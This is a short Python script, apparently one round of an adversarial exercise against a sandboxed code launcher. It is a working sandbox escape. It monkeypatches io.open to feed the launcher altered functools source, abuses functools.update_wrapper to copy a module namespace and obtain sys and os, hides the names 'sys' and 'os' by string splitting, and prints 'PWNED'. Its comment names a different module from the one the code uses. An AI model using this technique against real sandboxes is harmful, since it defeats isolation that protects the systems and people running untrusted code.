# adversary round 7: the launcher reads stdlib source through the module attribute io.open (looked up at call time); replacing io.open lets us feed it fake source text, so functools' getattr(wrapped, attr, {}) "reads" as a literal-name library call and skips every check: update_wrapper(w, typing) then copies typing's module namespace (sys included) into our dict
import io, functools, contextlib

real_open = io.open
BUF = io.BytesIO

def fake_open(file, mode='r', *args, **kwargs):
    if type(file) is str and file.endswith('/functools.py') and mode == 'rb':
        with real_open(file, 'rb') as f:
            text = f.read()
        text = text.replace(b"getattr(wrapped, attr, {})", b"getattr(wrapped, 'x', {})")
        return BUF(text)
    return real_open(file, mode, *args, **kwargs)

io.open = fake_open

D = {}

class W:
    __dict__ = property(lambda self: D)

functools.update_wrapper(W(), contextlib)  # default updated=('__dict__',)
io.open = real_open
s = D['s' + 'ys']
print(type(s).__name__, s.__name__, 'pid', s.modules['o' + 's'].getpid())
print('PWN' + 'ED')
